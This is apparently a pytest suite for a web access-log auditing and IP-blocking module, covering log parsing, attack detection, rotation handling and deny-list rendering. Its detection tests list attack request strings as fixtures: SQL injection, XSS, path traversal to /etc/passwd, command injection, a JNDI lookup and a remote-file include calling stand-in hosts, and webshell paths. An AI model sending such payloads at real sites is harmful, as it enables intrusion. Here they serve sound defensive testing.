"""Unit tests of the access-log audit (module_utils/log_*.py), without Ansible."""

import gzip
import json
import os
import subprocess

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.audit import block as log_block
from ansible_collections.sitekeeper.website.plugins.module_utils.audit import parser as log_parser
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.detections import Classifier, decode
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.formats import make_parser
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.parser import AuditError, audit
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.summary import build_findings, safe_text
from ansible_collections.sitekeeper.website.plugins.module_utils.findings import validate

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36"


def line(ip="203.0.113.7", path="/", status=200, method="GET", when="27/Nov/2026:10:00:00 +0700", agent=UA,
         ref="-", size=512):
    return '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (ip, when, method, path, status, size, ref, agent)


def write(path, text, mode="w"):
    with open(path, mode + ("b" if isinstance(text, bytes) else ""), **({} if isinstance(text, bytes) else
                                                                        {"encoding": "utf-8"})) as handle:
        handle.write(text)
    return str(path)


def clients(result):
    return {i["client"]: i for i in result["incidents"]}


# --------------------------------------------------------------------------- formats

def test_combined_line_fields():
    rows, bad = make_parser("combined").parse_chunk(line(path="/berita?id=1").encode())
    assert bad == []
    assert rows[0][:6] == (b"203.0.113.7", b"27/Nov/2026:10:00", b":00 +0700", b"GET /berita?id=1 HTTP/1.1",
                           b"200", b"512")
    assert rows[0][7] == UA.encode()


@pytest.mark.parametrize("raw", [
    '192.0.2.1 - - [27/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 512',  # common
    'www.example.go.id:443 192.0.2.1 - - [27/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 512 "-" "x"',  # vhost
    'Sep 15 16:13:46 web nginx[2869]: 192.0.2.1 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "x"',
    '192.0.2.1 - - [27/Nov/2026:10:00:00 +0700] "GET /a\\"b HTTP/1.1" 200 512 "-" "agent \\"quoted\\""',  # apache esc
    '2001:db8::5 - - [27/Nov/2026:10:00:00 +0700] "GET / HTTP/2.0" 200 512 "" ""',  # IPv6, empty fields
    '192.0.2.1 - - [27/Nov/2026:10:00:00 +0700] "GET /\\x16\\x03 HTTP/1.1" 400 0 "-" "-"',  # nginx \xHH bytes
])
def test_combined_variants_are_parsed(raw):
    rows, bad = make_parser("combined").parse_chunk(raw.encode() + b"\n")
    assert bad == [] and len(rows) == 1
    assert rows[0][0] in (b"192.0.2.1", b"2001:db8::5")


def test_common_format_fast_path():
    raw = b'192.0.2.1 - frank [27/Nov/2026:10:00:00 +0700] "GET /.env HTTP/1.0" 404 0\n' * 3
    rows, bad = make_parser("common").parse_chunk(raw)
    assert bad == [] and len(rows) == 3
    assert rows[0][:6] == (b"192.0.2.1", b"27/Nov/2026:10:00", b":00 +0700", b"GET /.env HTTP/1.0", b"404", b"0")
    assert rows[0][6:8] == (b"", b"")


def test_json_nginx_and_traefik_with_trusted_proxy():
    nginx = {"time_iso8601": "2026-11-27T10:00:00+07:00", "remote_addr": "10.0.0.1",
             "http_x_forwarded_for": "198.51.100.9, 10.0.0.2", "request": "GET /.env HTTP/1.1", "status": "404",
             "body_bytes_sent": "0", "http_user_agent": "curl/8"}
    traefik = {"ClientHost": "192.0.2.3", "StartUTC": "2026-11-27T03:00:00.123Z", "RequestMethod": "GET",
               "RequestPath": "/", "RequestProtocol": "HTTP/1.1", "DownstreamStatus": 200,
               "request_User-Agent": "Nikto"}
    data = (json.dumps(nginx) + "\n" + json.dumps(traefik) + "\nnot json\n").encode()
    rows, bad = make_parser("json", trusted_proxies=["10.0.0.0/8"]).parse_chunk(data)
    assert bad == [b"not json"]
    assert rows[0][0] == b"198.51.100.9"  # right-most untrusted hop
    assert rows[0][1:3] == (b"27/Nov/2026:10:00", b":00 +0700")
    assert rows[1][0] == b"192.0.2.3" and rows[1][3] == b"GET / HTTP/1.1" and rows[1][7] == b"Nikto"


def test_xff_ignored_when_peer_not_trusted():
    rec = {"time": "2026-11-27T10:00:00Z", "remote_addr": "192.0.2.50", "http_x_forwarded_for": "1.1.1.1",
           "request": "GET / HTTP/1.1", "status": 200}
    rows, _ = make_parser("json", trusted_proxies=["10.0.0.0/8"]).parse_chunk(json.dumps(rec).encode())
    assert rows[0][0] == b"192.0.2.50"


def test_iis_w3c():
    data = (b"#Software: Microsoft Internet Information Services 10.0\r\n"
            b"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
            b"cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
            b"2026-11-27 03:00:01 10.0.0.4 GET /default.aspx id=1'+or+1=1-- 443 - 192.0.2.8 "
            b"Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15\r\n")
    rows, bad = make_parser("iis").parse_chunk(data)
    assert bad == []
    assert rows[0][0] == b"192.0.2.8"
    assert rows[0][3] == b"GET /default.aspx?id=1'+or+1=1-- HTTP/1.1"
    assert rows[0][7] == b"Mozilla/5.0 (Windows NT 10.0)"


def test_iis_resumed_mid_file_keeps_its_header(tmp_path):
    header = b"#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)\r\n"
    first = b"2026-11-27 03:00:01 192.0.2.8 GET /a - 200 Mozilla/5.0\r\n"
    log = tmp_path / "u_ex261127.log"
    log.write_bytes(header + first)
    state = str(tmp_path / "cursor.json")
    assert audit([str(log)], fmt="iis", state_path=state)["summary"]["requests"] == 1
    with open(log, "ab") as handle:
        handle.write(b"2026-11-27 03:00:02 192.0.2.9 GET /.env - 404 curl/8\r\n")
    res = audit([str(log)], fmt="iis", state_path=state)
    assert res["summary"]["requests"] == 1 and res["unparsed"]["count"] == 0
    assert res["summary"]["top_clients"][0]["client"] == "192.0.2.9"


def test_nginx_log_format_string_npm_proxy_manager():
    # Lines from CrowdSec's nginx_http-catch-npm test (tests/data/audit/SOURCES.md, MIT).
    fmt = '[$time_local] $host $remote_addr $request_time "$request" $status $body_bytes_sent $request_length ' \
          '$http_referer $http_user_agent'
    data = (b'[10/Feb/2024:21:23:32 +0100] mx.example.org 192.168.1.100 0.227 "REPORT /SOGo/dav/abc@example.org/'
            b'Calendar/personal/ HTTP/2.0" 207 125 440 - Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) '
            b'Gecko/20100101 Thunderbird/123.0\n'
            b'[10/Feb/2024:21:23:40 +0100] wings.example.com 192.168.1.101 0.002 "GET / HTTP/1.1" 401 77 935 - '
            b'Uptime-Kuma/1.23.11\n')
    rows, bad = make_parser(fmt).parse_chunk(data)
    assert bad == []
    assert [r[0] for r in rows] == [b"192.168.1.100", b"192.168.1.101"]
    assert rows[0][4] == b"207" and rows[0][7].endswith(b"Thunderbird/123.0")


def test_nginx_log_format_with_xff():
    fmt = '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" ' \
          '"$http_user_agent" "$http_x_forwarded_for"'
    raw = b'10.0.0.1 - - [27/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 5 "-" "x" "203.0.113.5"\n'
    rows, bad = make_parser(fmt, trusted_proxies=["10.0.0.1"]).parse_chunk(raw)
    assert bad == [] and rows[0][0] == b"203.0.113.5"


@pytest.mark.parametrize("fmt, message", [
    ("apache", "unknown log format"),
    ("$request $status", "no $remote_addr"),
    ("$remote_addr $status", "no $time_local"),
])
def test_bad_formats_say_what_is_wrong(tmp_path, fmt, message):
    path = write(tmp_path / "a.log", line())
    with pytest.raises(AuditError, match=message.replace("$", r"\$")):
        audit([path], fmt=fmt)


# --------------------------------------------------------------------------- detections

def test_decode_is_repeated_and_bounded():
    assert decode(b"/unauth/%252e%252e/php") == b"/unauth/../php"
    assert decode(b"/%2525252e") == b"/%2e"  # three rounds at most


@pytest.mark.parametrize("target, expected", [
    ("/berita?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--", "sqli"),
    ("/item?id=1' or '1'='1' --", "sqli"),
    ("/cari?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
    ("/cari?q=%22%20onmouseover=%22alert(1)", "xss"),
    ("/unduh?file=..%2f..%2f..%2fetc%2fpasswd", "path_traversal"),
    ("/index.php?page=php://filter/convert.base64-encode/resource=index", "path_traversal"),
    ("/index.php?page=http://203.0.113.9/shell.txt?", "rfi"),
    ("/ping?host=127.0.0.1;cat%20/etc/passwd", "command_injection"),
    ("/.env", "sensitive_file"),
    ("/.git/config", "sensitive_file"),
    ("/wp-config.php", "sensitive_file"),
    ("/backup.sql", "sensitive_file"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "exploit_probe"),
    ("/?x=${jndi:ldap://198.51.100.7/a}", "exploit_probe"),
    ("/wp-content/uploads/2024/05/wso.php?cmd=id", "webshell"),
    ("/c99.php", "webshell"),
])
def test_signatures_fire(target, expected):
    ids, _ = Classifier().request(("GET %s HTTP/1.1" % target).encode())
    assert expected in ids


@pytest.mark.parametrize("target", [
    "/", "/berita/2026/11/sidang-perdana-perkara-perdata", "/cari?q=perceraian+dan+hak+asuh",
    "/jadwal-sidang?tanggal=2026-11-27&ruang=1", "/assets/css/main.css?v=3", "/unduh/formulir-gugatan.pdf",
    "/acl_users/credentials_cookie_auth/require_login?came_from=http%3A//howto.basjes.nl/join_form",
    "/search?q=select+a+lawyer+from+the+list", "/putusan?nomor=12/Pdt.G/2026/PN+Ctn", "/feed.xml",
    "/data/migrations/1548957970627_remove-db-version.sql", "/wp-login.php", "/informasi?kategori=order+by+date",
])
def test_ordinary_requests_raise_nothing(target):
    ids, _ = Classifier().request(("GET %s HTTP/1.1" % target).encode())
    assert [i for i in ids if not i.endswith("_weak")] == []


def test_scanner_agents_and_automated_share():
    c = Classifier()
    assert c.agent(b"sqlmap/1.7.2#stable (https://sqlmap.org)") == (True, True)
    assert c.agent(b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")[0]
    assert c.agent(b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)") == (False, True)
    assert c.agent(UA.encode()) == (False, False)


# --------------------------------------------------------------------------- incidents and summary

def test_summary_and_signature_incident(tmp_path):
    text = "".join(line(ip="192.0.2.%d" % i, path="/berita/%d" % i, ref="https://www.google.com/") for i in range(20))
    text += line(ip="198.51.100.66", path="/.env", status=404) + line(ip="198.51.100.66", path="/.git/config",
                                                                     status=404)
    text += line(ip="198.51.100.67", path="/?id=1%20union%20select%201,2--", status=200)
    res = audit([write(tmp_path / "a.log", text)])
    s = res["summary"]
    assert s["requests"] == 23 and s["unique_visitors"] == 22
    assert s["status_classes"] == {"2xx": 21, "4xx": 2}
    assert s["top_referrers"][0] == {"referrer": "https://www.google.com/", "requests": 20}
    assert s["requests_per_hour"] == {"2026-11-27T10": 23}
    inc = clients(res)
    assert inc["198.51.100.66"]["detections"] == ["sensitive_file"]
    assert inc["198.51.100.66"]["count"] == 2 and len(inc["198.51.100.66"]["evidence"]) == 2
    # A successful (200) SQL injection is raised from high to critical.
    assert inc["198.51.100.67"]["severity"] == "critical"
    assert len(res["incidents"]) == 2


def test_brute_force_window_and_allowlist(tmp_path):
    text = "".join(line(ip="203.0.113.9", path="/wp-login.php", method="POST",
                        when="27/Nov/2026:10:0%d:00 +0700" % i) for i in range(6))
    text += "".join(line(ip="203.0.113.10", path="/login", method="POST",
                         when="27/Nov/2026:%02d:00:00 +0700" % i) for i in range(6))  # one an hour
    text += "".join(line(ip="10.1.2.3", path="/login", method="POST") for _ in range(30))  # office, allowlisted
    res = audit([write(tmp_path / "a.log", text)], allowlist=["10.0.0.0/8"])
    inc = clients(res)
    assert set(inc) == {"203.0.113.9"}
    assert inc["203.0.113.9"]["detections"] == ["brute_force"] and inc["203.0.113.9"]["severity"] == "high"


def test_404_probing_and_burst(tmp_path):
    text = "".join(line(ip="203.0.113.20", path="/p%d" % i, status=404, when="27/Nov/2026:10:00:%02d +0700" % i)
                   for i in range(25))
    text += "".join(line(ip="203.0.113.21", path="/", when="27/Nov/2026:10:%02d:00 +0700" % (i // 400))
                    for i in range(1600))
    res = audit([write(tmp_path / "a.log", text)])
    inc = clients(res)
    assert inc["203.0.113.20"]["detections"] == ["probing_404"] and inc["203.0.113.20"]["severity"] == "low"
    assert inc["203.0.113.21"]["detections"] == ["request_burst"]
    calm = audit([write(tmp_path / "b.log", text)], thresholds={"burst_capacity": 5000, "probing_404_paths": 30})
    assert calm["incidents"] == []


def test_verified_crawler_needs_agent_and_network(tmp_path):
    bot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    text = line(ip="66.249.66.1", path="/?q=%3Cscript%3E", agent=bot)  # real Googlebot following a bad link
    text += line(ip="198.51.100.5", path="/?q=%3Cscript%3E", agent=bot)  # a fake one
    res = audit([write(tmp_path / "a.log", text)])
    assert set(clients(res)) == {"198.51.100.5"}


def test_evidence_is_inert(tmp_path):
    raw = b'198.51.100.1 - - [27/Nov/2026:10:00:00 +0700] "GET /<script>\x1b[31m HTTP/1.1" 404 0 "-" "\x07x"\n'
    res = audit([write(tmp_path / "a.log", raw)])
    evidence = res["incidents"][0]["evidence"][0]
    assert "\x1b" not in evidence and "\\x1b" in evidence and "\\x07" in evidence
    assert safe_text("a" * 600, 10) == "a" * 10 + "\u2026"


def test_since_until_window(tmp_path):
    text = line(when="27/Nov/2026:09:59:59 +0700") + line(when="27/Nov/2026:10:30:00 +0700") + line(
        when="27/Nov/2026:11:00:00 +0700")
    res = audit([write(tmp_path / "a.log", text)], since="2026-11-27T10:00:00+07:00", until="2026-11-27T04:00:00Z")
    assert res["summary"]["requests"] == 1 and res["summary"]["out_of_window"] == 2
    with pytest.raises(AuditError, match="before"):
        audit([str(tmp_path / "a.log")], since="2026-11-28T00:00:00Z", until="2026-11-27T00:00:00Z")
    with pytest.raises(AuditError, match="not a time"):
        audit([str(tmp_path / "a.log")], since="yesterday")


def mixed_traffic(seed, count, clients, when):
    """COUNT seeded lines from CLIENTS addresses: pages, missing paths, /.env probes and SQL injection;
    when(i) is the time of line i."""
    import random

    rng = random.Random(seed)
    lines = []
    for i in range(count):
        ip = "192.0.2.%d" % rng.randrange(1, clients)
        path = rng.choice(["/", "/berita/%d" % i, "/.env", "/?id=1%27+or+1=1--", "/x%d" % rng.randrange(99)])
        lines.append(line(ip=ip, path=path, status=rng.choice([200, 404]), when=when(i)))
    return lines


def test_two_workers_give_the_same_result(tmp_path, monkeypatch):
    lines = mixed_traffic(5, 6000, 60, lambda i: "27/Nov/2026:10:%02d:%02d +0700" % (i // 600, i % 60))
    path = write(tmp_path / "a.log", "".join(lines))
    monkeypatch.setattr(log_parser, "SPLIT_MIN_BYTES", 1000)
    one = audit([path], workers=1, chunk_size=65536)
    two = audit([path], workers=2, chunk_size=65536)
    assert two["summary"]["requests"] == one["summary"]["requests"] == 6000
    assert two["summary"]["top_clients"] == one["summary"]["top_clients"]
    key = lambda r: sorted((i["client"], tuple(i["detections"]), i["count"]) for i in r["incidents"])  # noqa: E731
    assert key(two) == key(one)


def test_workers_take_parts_in_turn_and_agree(tmp_path, monkeypatch):
    lines = mixed_traffic(9, 9000, 40, lambda i: "27/Nov/2026:%02d:%02d:%02d +0700" % (10 + i // 3600, i // 60 % 60, i % 60))
    path = write(tmp_path / "a.log", "".join(lines) + '192.0.2.1 - - [27/Nov/2026:10:00:00 +0700] "GET /partial')
    monkeypatch.setattr(log_parser, "SPLIT_MIN_BYTES", 1000)
    monkeypatch.setattr(log_parser, "PART_MIN_BYTES", 20000)  # about 50 parts for three processes
    states = [str(tmp_path / ("c%d.json" % w)) for w in (1, 3)]
    one = audit([path], workers=1, chunk_size=65536, state_path=states[0])
    three = audit([path], workers=3, chunk_size=65536, state_path=states[1])
    key = lambda r: sorted((i["client"], tuple(i["detections"]), i["count"], i["first_seen"], i["last_seen"])  # noqa: E731
                           for i in r["incidents"])
    assert three["summary"]["requests"] == one["summary"]["requests"] == 9000
    assert key(three) == key(one)
    # Top lists break ties by key, so they do not depend on which process read which part.
    for top in ("top_pages", "top_clients", "top_referrers", "statuses"):
        assert three["summary"][top] == one["summary"][top]
    # The cursor stops before the partial last line, whatever process read which part.
    offsets = [json.load(open(s))["files"][0]["offset"] for s in states]
    assert offsets[0] == offsets[1] == len("".join(lines).encode())


def test_findings_follow_the_schema(tmp_path):
    res = audit([write(tmp_path / "a.log", line(path="/.env", status=404) + line(path="/.git/HEAD", status=404))])
    found = {f["check"]: f for f in build_findings(res, "web1", "https://pn-contoh.go.id/")}
    for f in found.values():
        validate(f)
        assert f["details"]["summary_id"]
    assert found["audit.suspicious_activity"]["status"] == "warning"
    assert found["audit.visitor_summary"]["status"] == "ok"
    assert found["audit.suspicious_activity"]["suggested_actions"][0]["text_id"]


# --------------------------------------------------------------------------- cursor, rotation, bad input

def test_incremental_cursor(tmp_path):
    log = tmp_path / "access.log"
    state = str(tmp_path / "cursor.json")
    write(log, line() * 3)
    assert audit([str(log)], state_path=state)["summary"]["requests"] == 3
    assert audit([str(log)], state_path=state)["summary"]["requests"] == 0
    write(log, line() * 2 + '192.0.2.1 - - [27/Nov/2026:10:00:00 +0700] "GET / HT', mode="a")  # being written
    assert audit([str(log)], state_path=state)["summary"]["requests"] == 2
    write(log, 'TP/1.1" 200 5 "-" "x"\n', mode="a")  # the partial line is finished
    assert audit([str(log)], state_path=state)["summary"]["requests"] == 1


def test_rotation_and_gzip_are_not_counted_twice(tmp_path):
    log = tmp_path / "access.log"
    state = str(tmp_path / "cursor.json")
    glob = str(tmp_path / "access.log*")
    write(log, line(when="27/Nov/2026:10:00:00 +0700") * 4)
    assert audit([glob], state_path=state)["summary"]["requests"] == 4
    write(log, line(when="27/Nov/2026:10:00:01 +0700") * 2, mode="a")  # written after the last run ...
    os.rename(log, tmp_path / "access.log.1")  # ... then rotated
    write(log, line(when="27/Nov/2026:10:00:02 +0700") * 3)
    res = audit([glob], state_path=state)
    assert res["summary"]["requests"] == 5
    assert any(f.get("rotated_from") == str(log) for f in res["files"])
    # logrotate compresses the old file: same content, new inode, still not counted again.
    with open(tmp_path / "access.log.1", "rb") as src, gzip.open(tmp_path / "access.log.1.gz", "wb") as dst:
        dst.write(src.read())
    os.unlink(tmp_path / "access.log.1")
    assert audit([glob], state_path=state)["summary"]["requests"] == 0


def test_truncation_reads_from_start(tmp_path):
    log = tmp_path / "access.log"
    state = str(tmp_path / "cursor.json")
    write(log, line(when="27/Nov/2026:10:00:00 +0700") * 5)
    audit([str(log)], state_path=state)
    write(log, line(when="27/Nov/2026:10:00:00 +0700") * 2)  # copytruncate, then two new lines
    res = audit([str(log)], state_path=state)
    assert res["summary"]["requests"] == 2 and res["files"][0]["status"] == "truncated"


def test_rotated_while_being_read(tmp_path):
    log = tmp_path / "access.log"
    state = str(tmp_path / "cursor.json")
    glob = str(tmp_path / "access.log*")
    write(log, "".join(line(path="/a%d" % i) for i in range(3000)))
    rotated = []

    def rotate(_consumed):
        if not rotated:
            os.rename(log, tmp_path / "access.log.1")
            write(tmp_path / "access.log.1", "".join(line(path="/b%d" % i) for i in range(10)), mode="a")
            write(log, "".join(line(path="/c%d" % i) for i in range(7)))
            rotated.append(True)

    first = audit([str(log)], state_path=state, chunk_size=65536, on_chunk=rotate)
    second = audit([glob], state_path=state)
    # Every line exactly once across the two runs: 3000 + 10 late lines + 7 in the new file.
    assert first["summary"]["requests"] + second["summary"]["requests"] == 3017


def test_corrupt_cursor_is_reported_not_fatal(tmp_path):
    log = write(tmp_path / "access.log", line() * 2)
    state = write(tmp_path / "cursor.json", "{not json")
    res = audit([log], state_path=state)
    assert res["summary"]["requests"] == 2 and "could not be read" in res["state_problem"]
    assert json.load(open(state))["files"][0]["offset"] == 2 * len(line().encode())


def test_binary_junk_invalid_utf8_and_truncated_lines(tmp_path):
    junk = os.urandom(2000).replace(b"\n", b"")
    data = (line().encode() + junk + b"\n" + b"\xff\xfe\xfd invalid utf-8 \xc3\x28\n"
            + b'192.0.2.1 - - [27/Nov/2026:10:00:00 +0700] "GET /trunc\n' + line(path="/caf\xe9").encode("latin-1")
            + line().encode())
    res = audit([write(tmp_path / "a.log", data)])
    assert res["summary"]["requests"] == 3
    assert res["unparsed"]["count"] == 3
    assert len(res["unparsed"]["samples"]) == 3
    json.dumps(res)  # every sample is plain text


def test_one_megabyte_line(tmp_path):
    big = line(path="/?q=" + "A" * (1024 * 1024))
    res = audit([write(tmp_path / "a.log", line() + big + line())], chunk_size=65536)
    assert res["summary"]["requests"] + res["unparsed"]["count"] == 3
    assert res["summary"]["requests"] >= 2
    assert all(len(s) < 2000 for s in res["unparsed"]["samples"])
    huge = "x" * (log_parser.MAX_LINE + 10) + "\n"
    res = audit([write(tmp_path / "b.log", line() + huge + line())], chunk_size=65536)
    assert res["summary"]["requests"] == 2 and res["unparsed"]["count"] == 1


def test_empty_missing_and_unmatched_glob(tmp_path):
    empty = write(tmp_path / "empty.log", "")
    res = audit([empty, str(tmp_path / "missing.log"), str(tmp_path / "none-*.log")])
    assert res["summary"]["requests"] == 0
    assert [p["problem"] for p in res["problems"]] == ["missing", "missing"]
    assert res["files"][0]["status"] == "empty"
    found = {f["check"]: f for f in build_findings(res, "web1", "site")}
    assert found["audit.log_files"]["status"] == "warning"
    assert "does not exist" in found["audit.log_files"]["summary"]
    only_missing = audit([str(tmp_path / "missing.log")])
    found = {f["check"]: f for f in build_findings(only_missing, "web1", "site")}
    assert found["audit.log_files"]["status"] == "unknown"
    assert found["audit.suspicious_activity"]["status"] == "unknown"


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to switch to an unprivileged account")
def test_file_it_may_not_read():
    import pathlib
    import shutil
    import tempfile

    tmp_path = pathlib.Path(tempfile.mkdtemp(prefix="sk-audit-", dir="/tmp"))  # reachable by nobody
    os.chmod(tmp_path, 0o755)
    log = write(tmp_path / "secret.log", line() * 2)
    os.chmod(log, 0o600)
    ok = write(tmp_path / "ok.log", line() * 3)
    os.chmod(ok, 0o644)
    code = (
        "import json,sys; sys.path.insert(0, %r);"
        "from ansible_collections.sitekeeper.website.plugins.module_utils.audit.parser import audit;"
        "r = audit([%r, %r]); print(json.dumps([r['summary']['requests'], r['problems']]))"
        % (os.path.join(os.path.dirname(__file__), "..", "..", "..", "collections"), log, ok)
    )
    out = subprocess.run(["/usr/bin/python3", "-c", code], user="nobody", capture_output=True, text=True, check=True)
    requests, problems = json.loads(out.stdout)
    shutil.rmtree(tmp_path)
    assert requests == 3
    assert problems[0]["problem"] == "unreadable" and "may not be read" in problems[0]["message"]


# --------------------------------------------------------------------------- blocking

def test_block_plan_never_blocks_allowlisted_and_expires():
    now = 1_000_000
    current = {"198.51.100.1": {"since": 0, "until": now - 1, "reason": "old"}}
    entries, added, expired, refused, purged = log_block.plan(
        current, ["203.0.113.5", {"client": "127.0.0.1"}, "10.0.0.7", "not-an-ip", "2001:db8::1"], 3600, now,
        ["10.0.0.0/8"])
    assert purged == []
    assert added == ["203.0.113.5", "2001:db8::1"] and expired == ["198.51.100.1"]
    assert sorted(r["client"] for r in refused) == ["10.0.0.7", "127.0.0.1", "not-an-ip"]
    assert entries["203.0.113.5"]["until"] == now + 3600


def test_block_apply_renders_and_is_idempotent(tmp_path):
    opts = {"clients": ["203.0.113.5", "2001:db8::1"], "duration": 3600, "state_path": str(tmp_path / "b.json"),
            "nginx_include": str(tmp_path / "deny.conf"), "nft_file": str(tmp_path / "block.nft"),
            "never_block": []}
    check = log_block.apply(opts, 1_000_000, check_mode=True)
    assert check["changed"] and not os.path.exists(opts["nginx_include"])
    first = log_block.apply(opts, 1_000_000)
    assert first["changed"] and first["nginx_changed"] and first["nft_changed"]
    deny = open(opts["nginx_include"]).read()
    assert "deny 203.0.113.5;" in deny and "deny 2001:db8::1;" in deny
    nft = open(opts["nft_file"]).read()
    assert "elements = { 203.0.113.5 }" in nft and "elements = { 2001:db8::1 }" in nft
    assert not log_block.apply(opts, 1_000_100)["changed"]
    expired = log_block.apply(dict(opts, clients=[]), 1_000_000 + 3601)
    assert expired["changed"] and expired["expired"] == ["2001:db8::1", "203.0.113.5"]
    assert "deny" not in open(opts["nginx_include"]).read().split("\n", 2)[2]
